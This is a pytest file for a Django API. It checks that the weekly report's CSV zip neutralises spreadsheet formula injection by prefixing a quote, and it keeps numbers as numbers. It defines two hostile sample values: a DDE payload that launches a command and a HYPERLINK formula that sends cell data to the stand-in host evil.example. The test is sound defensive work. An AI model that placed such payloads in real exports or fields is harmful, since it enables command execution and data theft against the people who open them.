"""The weekly report's CSV tables, as the API serves them: a facility name or a justification that
starts like a spreadsheet formula comes out as text (a leading quote); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.db import connection
from rest_framework.test import APIClient

from compliance.models import Approval
from dispatch.models import Facility

pytestmark = pytest.mark.django_db

FACILITY = "@SUM(1+1)*cmd|' /C calc'!A0"
JUSTIFICATION = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'


def _table(zip_bytes: bytes, name: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as zf:
        member = next(n for n in zf.namelist() if n.endswith(f"/{name}"))
        text = zf.read(member).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_hostile_names_and_justifications_come_out_of_the_csv_zip_neutralised(activity):
    approval = (
        Approval.objects.filter(
            created_at__gte=activity.week.starts_at, created_at__lt=activity.week.ends_at
        )
        .order_by("pk")
        .first()
    )
    assert approval is not None
    # Approvals are append-only: the text is set the way a raw client would have stored it.
    with connection.cursor() as cur:
        cur.execute(
            "UPDATE compliance_approval SET justification = %s WHERE id = %s",
            [JUSTIFICATION, approval.pk],
        )
    Facility.objects.filter(pk=approval.visit.facility_id).update(name=FACILITY)

    c = APIClient()
    c.force_authenticate(activity.users["auditor"])
    r = c.get(f"/api/v1/reports/weekly/{activity.week.label}/?format=csv")
    assert r.status_code == 200, r.content

    approvals = _table(r.content, "approvals.csv")
    row = next(a for a in approvals if a["id"] == str(approval.pk))
    assert row["justification"] == "'" + JUSTIFICATION
    assert row["facility"] == "'" + FACILITY
    assert int(row["hold_seconds"]) >= 0  # a number, written as a number
    everywhere = [v for a in approvals for v in a.values()]
    assert JUSTIFICATION not in everywhere and FACILITY not in everywhere
    by_outcome = _table(r.content, "decisions_by_outcome.csv")
    assert all(not x["decisions"].startswith("'") for x in by_outcome)
